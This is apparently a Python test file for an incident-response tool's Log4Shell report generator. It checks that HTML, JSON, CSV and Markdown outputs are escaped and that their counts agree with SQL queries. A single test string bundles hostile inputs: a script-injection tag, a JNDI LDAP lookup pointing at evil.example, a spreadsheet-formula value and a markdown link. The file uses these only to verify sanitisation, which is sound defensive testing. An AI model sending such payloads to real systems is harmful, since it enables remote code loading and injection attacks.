"""The report: every number in it counted again by SQL, every hostile name harmless, four formats that other programs read."""
import csv
import html.parser
import io
import json
import os
import re

import respond_case
from respond_case import RespondCase, component, finding, report

CVE, NEXT = "CVE-2021-44228", "CVE-2021-45046"
EVIL = "<script>alert(1)</script>\"'&|`*_[x](http://evil.example) ${jndi:ldap://evil.example/a} =cmd()"
VOID = {"meta", "rect", "line", "polygon", "br"}


class Page(html.parser.HTMLParser):
    """Elements, properly nested; texts; attributes."""

    def __init__(self, text):
        super().__init__()
        self.open, self.tags, self.text, self.attributes = [], [], [], []
        self.feed(text)
        self.close()
        assert self.open == [], self.open

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag, (tag, self.open)

    def handle_data(self, data):
        self.text.append(data)


class Reports(RespondCase):
    def setUp(self):
        super().setUp()
        for n, (name, environment, exposure) in enumerate((("web-1", "production", "public"), ("web-2", "production", "internal"), ("lab-1", "development", "internal"), (EVIL, "staging", "public"))):
            self.run_cli("asset", "add", name, "--environment", environment, "--exposure", exposure, "--owner", EVIL, status=0)
            if n < 3:
                ident = "%032x" % (n + 16)
                self.take(report(name=name, machine=ident, hardware=ident, findings=[finding(path="/srv/" + EVIL)], components=[component()]))
        self.run_cli("incident", "open", CVE, "--mode", "incident", "--summary", EVIL, status=0)
        self.run_cli("rollout", "start", "fix " + EVIL, CVE, "--summary", EVIL, status=0)
        self.run_cli("vendor", "add", "Acme " + EVIL, "--data", EVIL, status=0)
        self.run_cli("vendor", "limit", "Acme " + EVIL, EVIL, "--why", EVIL, status=0)
        self.now("2021-12-11T18:00:00Z")
        self.take(report(name="lab-1", machine="%032x" % 18, hardware="%032x" % 18, ended="2021-12-11T17:00:00Z", components=[component()]))

    def make(self, output, *args):
        return self.run_cli("report", *args, "--output", output, "--title", EVIL, status=0).stdout.decode()

    def test_html(self):
        text = self.make("html")
        page = Page(text)
        self.assertNotIn("script", page.tags)
        self.assertNotIn("${", text)
        self.assertEqual([a for a in page.attributes if a[0] in ("src", "href", "onload", "onclick")], [])
        self.assertIn(("content", "default-src 'none'; style-src 'unsafe-inline'"), page.attributes)
        self.assertGreater(page.tags.count("svg"), 5)
        words = " ".join(" ".join(page.text).split())
        self.assertIn("<script>alert(1)</script>", words)  # as text
        self.assertIn("1 finding on public assets that nothing mitigates: 1 of 2 public ones were looked at completely and lately.", words)
        for number in re.findall(r'(?:x|y|width|height|x1|y1)="(-?\d+)"', text):
            self.assertTrue(0 <= int(number) <= 5000)
        self.assertIn("is whole; the hash of the last one is", words)
        self.broken = True
        self.sql("UPDATE timeline SET actor = 'nobody' WHERE id = 2")
        self.assertIn("an entry of it was altered", self.make("html"))

    def test_numbers(self):
        r = json.loads(self.make("json"))
        known = dict(self.sql("SELECT environment || ',' || exposure, count(*) FROM asset WHERE retired IS NULL GROUP BY 1"))
        self.assertEqual({c["environment"] + "," + c["exposure"]: c["known"] for c in r["coverage"]}, known)
        v, = r["vulnerabilities"]
        states = dict(self.sql("SELECT a.environment || ',' || a.exposure || ',' || f.state, count(*) FROM finding f JOIN asset a ON a.id = f.asset GROUP BY 1"))
        self.assertEqual({"%s,%s,%s" % (c["environment"], c["exposure"], s): c[s] for c in v["findings"] for s in ("affected", "fixed") if c[s]}, states)
        self.assertEqual(v["overdue"], self.sql("SELECT count(*) FROM finding WHERE closed IS NULL AND due < ?", 1639245600 * 10**6)[0][0])
        self.assertEqual(sum(r["clocks"].values()), self.sql("SELECT count(*) FROM finding WHERE closed IS NULL AND due IS NOT NULL")[0][0])
        self.assertEqual(r["timeline_entries"], self.sql("SELECT count(*) FROM timeline")[0][0])
        self.assertEqual([(s["stage"], s["assets"], s["done"], s["gate"]) for s in r["rollouts"][0]["stages"]],
                         [("development", 1, 1, "open"), ("staging", 0, 0, "closed"), ("production", 2, 0, "closed")])
        self.assertEqual((v["vendors"][0]["state"], v["vendors"][0]["limits"], len(r["limits"])), ("not asked", 1, 1))
        self.assertEqual([c["clock"] for c in r["incident_clocks"]], ["identification", "first-patch"])

    def test_the_directives_columns(self):
        text = self.make("csv")
        rows = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(text.split("\n")[0].split(",")[:4], ["vendor", "application", "version", "action"])
        self.assertEqual(len(rows), self.sql("SELECT count(*) FROM finding")[0][0])
        self.assertEqual({(r["vendor"], r["version"]) for r in rows}, {("org.apache.logging.log4j", "2.14.1")})
        self.assertEqual({r["asset"]: r["action"] for r in rows}, {"web-1": "none yet", "web-2": "none yet", "lab-1": "updated or removed"})
        self.assertNotIn("${", text)
        self.assertFalse([cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@")])

    def test_markdown(self):
        text = self.make("markdown")
        self.assertNotIn("${", text)
        self.assertNotIn("<script", text)
        self.assertNotIn("[x](http", text)
        columns = 0
        for line in text.splitlines():
            cells = len(re.findall(r"(?<!\\)\|", line))
            if line.startswith("|"):
                self.assertTrue(columns in (0, cells), line)
            columns = cells if line.startswith("|") else 0

    def test_which_vulnerabilities(self):
        self.assertIn("load its advisory", self.run_cli("report", "CVE-1999-1", status=2).stderr.decode())
        self.run_cli("report", "--output", "pdf", status=2)
        r = json.loads(self.make("json", NEXT))
        self.assertEqual([v["vulnerability"] for v in r["vulnerabilities"]], [NEXT])
        self.assertEqual(sum(r["clocks"].values()), 0)

    def test_an_empty_store(self):
        for output in ("html", "markdown", "json", "csv"):
            done = self.run_cli("report", "--output", output, "--data-dir", self.path("empty"), status=0)
            self.assertTrue(done.stdout)
        Page(self.run_cli("report", "--data-dir", self.path("empty"), status=0).stdout.decode())

    def test_a_full_disk(self):
        if os.path.exists("/dev/full"):
            with open("/dev/full", "wb") as full:
                self.run_cli("report", stdout=full, status=4)


if __name__ == "__main__":
    respond_case.main()
